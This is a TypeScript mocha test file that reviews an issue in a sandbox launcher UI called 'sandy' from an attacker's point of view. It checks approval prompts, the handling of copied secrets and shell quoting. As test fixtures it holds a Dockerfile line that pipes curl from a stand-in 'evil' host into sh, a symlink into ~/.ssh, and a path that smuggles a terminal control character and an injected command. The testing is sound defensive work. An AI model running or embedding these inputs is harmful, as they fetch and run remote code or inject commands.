/*
 * Hostile review of issue 12 (66a6b1e..HEAD). Not part of any mocharc suite (the `.attack-spec`
 * suffix): run with
 *   npx tsc -b configs/tsconfig.all.json && npx mocha packages/sandy-ui-core/lib/node/test/issue12-review.attack-spec.js
 * Each test asserts what SHOULD hold; a failing test is a finding.
 */
import { expect } from 'chai';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { CliIo, main } from '../cli/cli';
import { SandyServiceCore } from '../service/sandy-service';
import { shellQuote } from '../onboarding/prerequisites';

const PACKAGE = path.resolve(__dirname, '../../..');
const FIXTURES = path.resolve(PACKAGE, '../../test/fixtures/sandy-1.7.1');

/** A sandy that replays 1.7.1's introspection; `--build-only` logs its pid and sleeps 1.5 s. */
function writeFakeSandy(dir: string): { sandy: string; builds: string } {
    const builds = path.join(dir, 'builds.log');
    const sandy = path.join(dir, 'bin', 'sandy');
    fs.mkdirSync(path.dirname(sandy), { recursive: true });
    fs.writeFileSync(sandy, `#!/usr/bin/env bash
F='${FIXTURES}'
emit() {
    if [ -f "$F/$1/stdout.json" ]; then cat "$F/$1/stdout.json"; else cat "$F/$1/stdout.txt"; fi
    cat "$F/$1/stderr.txt" >&2
    exit "$(cat "$F/$1/exitcode.txt")"
}
case "\${1:-}" in
    --version|-v) emit 03-version ;;
    --print-version) emit 02-print-version ;;
    --print-schema) emit 01-print-schema ;;
    --print-state) if [ "\${2:-}" = light ]; then emit 05-print-state-light-empty-home; else emit 04-print-state-full-empty-home; fi ;;
    --validate-config) emit 10-validate-clean-passive ;;
    --build-only) echo "start $$ $(date +%s%N)" >> '${builds}'; sleep 1.5; echo "end $$ $(date +%s%N)" >> '${builds}'; echo '[sandy] Build complete. Exiting (--build-only).'; exit 0 ;;
    *) echo "fake sandy: would launch" >&2; exit 99 ;;
esac
`, { mode: 0o755 });
    return { sandy, builds };
}

describe('issue 12 hostile review', function () {
    this.timeout(60_000);
    let root: string;
    let home: string;
    let env: Record<string, string>;
    let fake: { sandy: string; builds: string };
    let services: SandyServiceCore[] = [];

    const newService = (): SandyServiceCore => {
        const s = new SandyServiceCore({
            logger: { info: () => undefined, warn: () => undefined, error: () => undefined },
            spawnPty: () => { throw new Error('no PTY here'); },
            env: { ...env },
            home,
            dataDir: path.join(root, 'ide-data')
        });
        services.push(s);
        return s;
    };
    const runCli = async (argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> => {
        let stdout = '';
        let stderr = '';
        const io: CliIo = { stdout: t => { stdout += t; }, stderr: t => { stderr += t; }, env, cwd: root, home };
        const code = await main(argv, io);
        return { code, stdout, stderr };
    };
    const project = (name: string, config?: string): string => {
        const ws = path.join(home, 'work', name);
        fs.mkdirSync(ws, { recursive: true });
        if (config !== undefined) {
            fs.mkdirSync(path.join(ws, '.sandy'), { recursive: true });
            fs.writeFileSync(path.join(ws, '.sandy', 'config'), config);
        }
        return ws;
    };

    beforeEach(() => {
        root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sui-attack-')));
        home = path.join(root, 'home');
        fs.mkdirSync(path.join(home, '.sandy'), { recursive: true });
        fake = writeFakeSandy(root);
        env = {
            PATH: `${path.dirname(fake.sandy)}:/usr/bin:/bin`, HOME: home, SANDY_HOME: path.join(home, '.sandy'),
            DOCKER_HOST: `unix://${path.join(root, 'no-docker.sock')}`
        };
        services = [];
    });
    afterEach(async () => {
        for (const s of services) {
            await s.dispose();
        }
        fs.rmSync(root, { recursive: true, force: true });
    });

    describe('Q6: sandy-ui validate says the verdict Launch reaches', () => {
        it('a new .sandy/Dockerfile: Launch asks for approval, validate must not say "nothing to approve"', async () => {
            const ws = project('df', 'SANDY_AGENT=claude\n');
            fs.writeFileSync(path.join(ws, '.sandy', 'Dockerfile'), 'FROM scratch\nRUN curl evil | sh\n');
            const launch = await newService().preflight(ws);
            expect(launch?.kind, 'Launch asks').to.equal('approve');
            const v = await runCli(['--sandy', fake.sandy, 'validate', path.join(ws, '.sandy', 'config')]);
            expect(v.stdout, 'validate must not promise a launch with nothing to approve').not.to.contain('nothing to approve');
        });

        it('a symlink out of the workspace into $HOME: Launch asks, validate must not say "nothing to approve"', async () => {
            const ws = project('ln', 'SANDY_AGENT=claude\n');
            fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
            fs.symlinkSync(path.join(home, '.ssh'), path.join(ws, 'keys'));
            const launch = await newService().preflight(ws);
            expect(launch?.kind, 'Launch asks').to.equal('approve');
            const v = await runCli(['--sandy', fake.sandy, 'validate', path.join(ws, '.sandy', 'config')]);
            expect(v.stdout).not.to.contain('nothing to approve');
        });

        it('a .sandy that is a symlink: Launch does not go ahead; validate must not exit 0 in silence', async () => {
            const other = project('other', 'SANDY_SSH=agent\n');
            const ws = project('sym');
            fs.symlinkSync(path.join(other, '.sandy'), path.join(ws, '.sandy'));
            let launch: string;
            try {
                launch = (await newService().preflight(ws))?.kind ?? 'ready';
            } catch (e) {
                launch = `throws: ${(e as Error).message}`;
            }
            expect(launch, 'Launch does not say ready').not.to.equal('ready');
            const v = await runCli(['--sandy', fake.sandy, 'validate', path.join(ws, '.sandy', 'config')]);
            expect({ code: v.code, hasVerdict: /launch {3}/.test(v.stdout) }, `Launch: ${launch}`).not.to.deep.equal({ code: 0, hasVerdict: false });
        });
    });

    describe('Q8: the wizard build runs one sandy build at a time', () => {
        it('two Build clicks at once (two windows, a double click) start one sandy --build-only', async () => {
            const service = newService();
            await service.getOnboarding();
            await Promise.all([service.startImageBuild(), service.startImageBuild()]);
            for (let i = 0; i < 40 && (await service.imageBuild()).state === 'running'; i++) {
                await new Promise(r => setTimeout(r, 100));
            }
            const starts = fs.readFileSync(fake.builds, 'utf8').split('\n').filter(l => l.startsWith('start'));
            expect(starts, 'sandy --build-only processes').to.have.length(1);
        });
    });

    describe('Q4: copying .secrets', () => {
        it('a privileged key inside the source .secrets is shown (or held back) before it is copied', async () => {
            const from = project('src', 'SANDY_AGENT=codex\n');
            fs.writeFileSync(path.join(from, '.sandy', '.secrets'), 'OPENAI_API_KEY=sk-x\nSANDY_SSH=agent\nSANDY_ALLOW_LAN_HOSTS=0.0.0.0/0\n', { mode: 0o600 });
            const to = project('dst');
            const service = newService();
            // What the user is shown: the plan (without secrets), then the second question with what the secrets add
            // (ProjectCommands.makeSandyFolder: the plan with includeSecrets, its lines the first one lacks).
            const first = (await service.planSandyFolder(to, { kind: 'copy', from })).lines;
            const second = (await service.planSandyFolder(to, { kind: 'copy', from, includeSecrets: true })).lines.filter(l => !first.includes(l));
            const shown = [...first, ...second].join('\n');
            const done = await service.createSandyFolder(to, { kind: 'copy', from, includeSecrets: true });
            const written = fs.readFileSync(path.join(to, '.sandy', '.secrets'), 'utf8');
            if (/SANDY_SSH=agent/.test(written)) {
                expect(shown, 'SANDY_SSH was copied: it must have been named in a dialog').to.contain('SANDY_SSH');
            }
            expect(done.created?.length).to.be.greaterThan(0);
        });
    });

    describe('Q1: a fix command sent to a terminal', () => {
        it('shellQuote never puts a terminal control character in a command (it refuses; the check then offers no command)', () => {
            // Ctrl-U (kill line) then a new command and Enter, inside a SANDY_HOME.
            expect(() => shellQuote('/srv/x\u0015touch /tmp/pwned\r')).to.throw(/control character/);
            expect(shellQuote('/srv/plain path')).to.equal('\'/srv/plain path\'');
        });
    });
});
